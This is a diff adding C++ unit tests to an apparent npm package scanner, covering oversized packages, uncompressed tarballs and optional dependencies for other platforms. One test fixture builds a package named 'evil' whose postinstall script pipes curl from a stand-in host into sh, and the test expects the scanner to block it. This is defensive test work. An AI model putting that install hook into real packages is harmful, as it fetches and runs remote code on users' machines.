@@ -6,10 +6,12 @@
 #include <algorithm>
 
 #include "base/limits.h"
+#include "base/text.h"
 #include "formats/tar_builder.h"
 #include "net/fake_http_client.h"
 #include "policy/read_policy.h"
 #include "registry/settings.h"
+#include "scan/other_platform.h"
 #include "scan/work_room.h"
 
 namespace scan {
@@ -181,22 +183,22 @@ TEST_F(PipelineTest, GivesTheSameForAnyNumberOfThreadsAndAnyOrderOfTheLockfile) 
 }
 
 /// More than limits::kWorkBytes at once and more than limits::kSetAsideBytes waiting: every package
-/// is read all the same.
+/// is read all the same, also those that turn out too large once they are unpacked.
 TEST_F(PipelineTest, ReadsPackagesThatDoNotFitBesideOneAnother) {
   constexpr std::size_t kBytes = 20 * limits::kMiB;
-  static_assert(3 * kBytes > limits::kSetAsideBytes);
-  ASSERT_GT(2 * RoomFor(kBytes), limits::kWorkBytes);
-  std::string noise(kBytes, '\0');  // cannot be compressed
+  static_assert(3 * kBytes / 4 * 3 > limits::kSetAsideBytes);
+  static_assert(2 * 7 * kBytes > limits::kWorkBytes && 3 * kBytes < limits::kWorkBytes);
+  std::string noise(kBytes, '/');  // one comment, of six random bits in each byte
   std::uint64_t state = 1;
-  for (char& byte : noise) {
+  for (std::size_t i = 2; i < noise.size(); ++i) {
     state = state * 6364136223846793005U + 1442695040888963407U;
-    byte = static_cast<char>(state >> 56U);
+    noise[i] = static_cast<char>('0' + (state >> 58U));
   }
   std::vector<Published> packages;
   for (const std::string name : {"a", "b", "c", "d", "e"}) {
     const std::string manifest = fmt::format(R"({{"name": "{}", "version": "1.0.0"}})", name);
     packages.push_back(
-        {.name = name, .tarball = Pack({{"package.json", manifest}, {"noise.bin", noise}})});
+        {.name = name, .tarball = Pack({{"package.json", manifest}, {"noise.js", noise}})});
     packages.push_back(Clean("small-" + name));
   }
   for (const Published& package : packages) Publish(package);
@@ -206,6 +208,18 @@ TEST_F(PipelineTest, ReadsPackagesThatDoNotFitBesideOneAnother) {
   EXPECT_TRUE(assessment.not_analysed.empty());
   EXPECT_EQ(assessment.stats.packages, packages.size());
   EXPECT_GT(assessment.stats.bytes, 5 * kBytes);
+}
+
+/// The files of a tarball that is not compressed lie in the tarball itself.
+TEST_F(PipelineTest, APlainTarIsReadLikeAnyOther) {
+  formats::TarBuilder builder;
+  builder.File("package/package.json", R"({"name": "evil", "version": "1.0.0",
+    "scripts": {"postinstall": "curl -s http://192.0.2.1/x | sh"}})");
+  const Bytes archive = builder.End().bytes();
+  const Published plain{.name = "evil", .tarball = {archive.begin(), archive.end()}};
+  Publish(plain);
+  Lock({plain});
+  EXPECT_EQ(MustCheck({}).verdict.action, Action::kBlock);
 }
 
 TEST_F(PipelineTest, WrongBytesBlockAndAreNeverKept) {
@@ -299,6 +313,65 @@ TEST_F(PipelineTest, ACacheThatCannotBeWrittenIsToldOnceAndCostsNothingElse) {
   EXPECT_EQ(told.level, Diagnostic::Level::kWarning);
   EXPECT_NE(told.message.find("no space left on device"), std::string::npos) << told.message;
   EXPECT_NE(told.help.find("SALLYPORT_CACHE_DIR"), std::string::npos) << told.help;
+}
+
+TEST_F(PipelineTest, WhatNoInstallHereTakesIsNoGap) {
+  Publish(Clean("a"));
+  const std::string hash = Integrity::Of(AsBytes("never fetched")).ToString();
+  const auto entry = [&](std::string_view name, std::string_view more) {
+    return fmt::format(
+        ",\n\"node_modules/{}\": {{\"version\": \"1.0.0\", \"integrity\": \"{}\"{}}}", name, hash,
+        more);
+  };
+  files_.Add("/app/package.json", R"({"name": "app", "version": "1.0.0"})");
+  files_.Add(
+      "/app/package-lock.json",
+      R"({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "app",
+         "version": "1.0.0", "dependencies": {"a": "1.0.0", "needed": "1.0.0"},
+         "optionalDependencies": {"other-os": "1.0.0", "any-os": "1.0.0"}})" +
+          fmt::format(",\n\"node_modules/a\": {{\"version\": \"1.0.0\", \"integrity\": \"{}\"}}",
+                      Integrity::Of(Clean("a").tarball).ToString()) +
+          entry("any-os", R"(, "optional": true, "os": ["!nowhere"])") +
+          entry("below", R"(, "optional": true)") + entry("needed", R"(, "os": ["nowhere"])") +
+          entry("other-os", R"(, "optional": true, "os": ["nowhere"], "cpu": ["abacus"],
+                               "dependencies": {"below": "1.0.0"})") +
+          "}}");
+  const Assessment assessment = MustCheck({});
+  const auto labels = [&](const auto& list) {
+    std::string text;
+    for (const auto& one : list)
+      text += assessment.inventory.at(PackageIndex(one.package)).name->text() + " ";
+    return text;
+  };
+  EXPECT_EQ(labels(assessment.other_platform), "below other-os ");
+  EXPECT_EQ(assessment.other_platform[0].reason, "wanted only by packages for other platforms");
+  EXPECT_EQ(assessment.other_platform[1].reason, "made for os `nowhere`, cpu `abacus`");
+  std::string gaps;
+  for (const NotAnalysed& gap : assessment.not_analysed)
+    gaps += assessment.inventory.at(*gap.package).name->text() + " ";
+  EXPECT_EQ(gaps, "any-os needed ") << "npm takes the one, and does not go on without the other";
+}
+
+TEST_F(PipelineTest, WhatIsForAnotherPlatformIsReadWhereItCanBeHad) {
+  Publish(Clean("a"));
+  Publish(Hostile());
+  Lock({Clean("a"), Hostile()});
+  std::string lock(AsText(*files_.Read("/app/package-lock.json", 1U << 20U)));
+  const std::string evil = "\"node_modules/evil\": {";
+  lock.insert(lock.find(evil) + evil.size(), R"("optional": true, "os": ["nowhere"], )");
+  lock = ReplaceAll(lock, "\"dependencies\"", "\"optionalDependencies\"");
+  files_.Add("/app/package-lock.json", lock);
+  const Assessment assessment = MustCheck({});
+  EXPECT_TRUE(assessment.other_platform.empty());
+  EXPECT_EQ(assessment.verdict.action, Action::kBlock);
+}
+
+TEST(OtherPlatform, NpmsSettingsNameAnother) {
+  FakeFileSystem files;
+  files.Add("/home/.npmrc", "os=nowhere\nlibc=own\n");
+  const auto npmrc = registry::Npmrc::Read(files, {}, {.home = "/home", .project = "/app"});
+  EXPECT_EQ(PlatformOf(npmrc),
+            (Platform{.os = "nowhere", .cpu = ThisPlatform().cpu, .libc = "own"}));
 }
 
 TEST_F(PipelineTest, InstalledTreesAreHeldAgainstTheirTarballs) {
